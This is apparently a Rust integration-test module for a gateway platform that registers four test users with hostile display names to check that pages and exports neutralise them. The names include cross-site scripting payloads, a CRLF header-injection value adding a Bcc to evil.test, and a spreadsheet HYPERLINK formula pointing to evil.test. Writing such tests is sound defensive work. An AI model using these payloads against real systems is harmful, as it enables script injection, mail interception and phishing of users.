//! The people whose texts are hostile, names included, and who look at the pages.

use gatehouse_harness::TestStack;
use gatehouse_harness::callers::{CiToken, PASSWORD};
use gatehouse_harness::mailbox::Mailbox;
use gatehouse_harness::stack::Tenant;
use serde_json::{Value, json};

use super::fill::Texts;

/// A header of its own, if a name could end the line it stands in.
pub(super) const INJECTED: &str = "<img src=x onerror=alert(1)>\r\nBcc: stolen@evil.test";
/// What a spreadsheet would take for a link.
pub(super) const FORMULA: &str = "=HYPERLINK(\"http://evil.test\",\"Pay\")";

const ASKS: &[&str] = &["catalogue.read", "application.manage"];
const DECIDES: &[&str] = &[
    "catalogue.read",
    "api.read",
    "subscription.read",
    "subscription.decide",
    "subscription.enforce",
];

/// Somebody who signed up.
pub(super) struct Person {
    pub(super) email: String,
    /// `usr_…`.
    pub(super) user: String,
}

/// Everybody of one tenant. The owner of the tenant, who is also the operator of the platform, is the stack's administrator.
pub(super) struct People {
    pub(super) developer: Person,
    /// Of the team that offers APIs.
    pub(super) owner: Person,
    pub(super) approver: Person,
    pub(super) admin: Person,
    /// What the developer does, and what the approver does.
    pub(super) asks: CiToken,
    pub(super) decides: CiToken,
}

impl People {
    /// Signs everybody up under a hostile name, and gives each their role.
    pub(super) async fn join(
        stack: &TestStack,
        tenant: &Tenant<'_>,
        mailbox: &Mailbox<'_>,
        root: &CiToken,
    ) -> Self {
        let mut people = Vec::new();
        for (role, name) in [
            ("developer", INJECTED),
            ("publisher", "\"><svg/onload=alert(1)>"),
            ("approver", FORMULA),
            ("admin", "javascript:alert(1)//<script>alert(1)</script>"),
        ] {
            let email = format!("{role}@hostile.test");
            sign_up(stack, &tenant.prefix, mailbox, name, &email).await;
            let user = user_of(root, &email).await;
            let roles = json!({"roles": [role]});
            let mut none = Texts::new(0);
            none.send(root, "set_member_roles", &[&user], roles).await;
            people.push(Person { email, user });
        }
        let Ok([developer, owner, approver, admin]) = <[Person; 4]>::try_from(people) else {
            panic!("four people signed up");
        };
        Self {
            asks: tenant.token_of(&developer.email, ASKS).await,
            decides: tenant.token_of(&approver.email, DECIDES).await,
            developer,
            owner,
            approver,
            admin,
        }
    }
}

async fn sign_up(stack: &TestStack, prefix: &str, mailbox: &Mailbox<'_>, name: &str, email: &str) {
    let window = stack.window(prefix);
    let page = window.get("/signup").await;
    let form = page
        .form("main form[action$='/signup']")
        .set("name", name)
        .set("email", email)
        .set("password", PASSWORD);
    let sent = window.submit(form.press("Create account")).await;
    sent.assert_status(200).assert_says("Check your mail");
    let link = mailbox.link_to(email, "/verify/").await;
    let page = window.get(&link).await;
    let form = page.form("main form[action*='/verify/']");
    let done = window.submit(form.press("Confirm e-mail")).await;
    done.assert_status(200);
}

async fn user_of(root: &CiToken, email: &str) -> String {
    let members = root.get("/v1/members").await;
    let members = members.assert_status(200).json();
    let mut all = members["data"].as_array().into_iter().flatten();
    let found = all.find(|member| member["email"] == email);
    let user = found.and_then(|member| member["user_id"].as_str());
    user.map_or_else(|| panic!("no {email} in {members}"), str::to_owned)
}

/// A member of an answer that is an id.
pub(super) fn id_of(answer: &Value) -> String {
    let id = answer["id"].as_str();
    id.unwrap_or_else(|| panic!("no id in {answer}")).to_owned()
}
